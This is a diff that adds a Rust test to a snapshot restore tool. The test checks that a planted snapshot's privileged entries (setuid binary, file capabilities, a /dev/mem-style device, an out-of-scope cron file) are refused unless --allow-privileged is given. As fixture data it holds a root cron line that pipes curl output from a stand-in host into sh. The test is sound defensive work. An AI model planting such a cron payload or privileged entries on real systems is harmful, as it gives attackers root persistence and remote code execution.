@@ -270,3 +270,71 @@ fn cairn_store_now() -> i64 {
         .unwrap()
         .as_nanos() as i64
 }
+
+#[test]
+fn privileged_entries_of_a_planted_snapshot_are_created_only_when_asked() {
+    let fx = Fixture::new();
+    let c = Crafter::new(&fx);
+    let good = b"apiVersion: v1\n".to_vec();
+    let evil = b"* * * * * root curl evil | sh\n".to_vec();
+    let mut setuid = file_node(b"kubelet-helper", vec![c.blob_id(&good)], good.len() as u64);
+    setuid.mode = 0o4755;
+    let mut capable = file_node(b"cap", vec![c.blob_id(&good)], good.len() as u64);
+    capable.xattrs.push(Xattr {
+        name: b"security.capability".to_vec(),
+        value: vec![
+            1, 0, 0, 2, 0, 0x20, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
+        ],
+    });
+    let mut dev =
+        cairn_format::tree::Node::new(b"mem".to_vec(), cairn_format::tree::NodeKind::CharDevice);
+    dev.mode = 0o666;
+    dev.rdev = (1 << 8) | 1;
+    let plain = file_node(b"manifest.yaml", vec![c.blob_id(&good)], good.len() as u64);
+    let kube = raw_tree(vec![capable, setuid, plain, dev]);
+    let cron = raw_tree(vec![file_node(
+        b"evil",
+        vec![c.blob_id(&evil)],
+        evil.len() as u64,
+    )]);
+    let etc = raw_tree(vec![
+        dir_node(b"cron.d", c.blob_id(&cron)),
+        dir_node(b"kubernetes", c.blob_id(&kube)),
+    ]);
+    let root = raw_tree(vec![dir_node(b"etc", c.blob_id(&etc))]);
+    let snap = c.inject_snapshot_at(
+        vec!["/etc/kubernetes".into()],
+        &root,
+        vec![kube, cron, etc],
+        vec![good, evil],
+    );
+    let target = fx.path("t");
+    let out = fx.restore(&snap, &target, &[]);
+    out.code_is(1).stderr_has(&[
+        "5 privileged entries",
+        "/etc/cron.d/evil: outside the paths the snapshot records",
+        "/etc/kubernetes/kubelet-helper: setuid",
+        "/etc/kubernetes/cap: file capabilities",
+        "/etc/kubernetes/mem: device node",
+        "--allow-privileged",
+    ]);
+    assert!(!target.exists(), "a refused restore wrote its target");
+    // What is not privileged can be restored on its own.
+    fx.restore(
+        &snap,
+        &target,
+        &["--include", "/etc/kubernetes/manifest.yaml"],
+    )
+    .ok();
+    assert!(target.join("etc/kubernetes/manifest.yaml").exists());
+    assert!(!target.join("etc/cron.d").exists());
+    // Asked explicitly, everything is created.
+    let all = fx.path("all");
+    fx.restore(&snap, &all, &["--allow-privileged"]).ok();
+    assert!(all.join("etc/cron.d/evil").exists());
+    let m = std::fs::metadata(all.join("etc/kubernetes/kubelet-helper")).unwrap();
+    assert_eq!(
+        std::os::unix::fs::PermissionsExt::mode(&m.permissions()) & 0o7777,
+        0o4755
+    );
+}
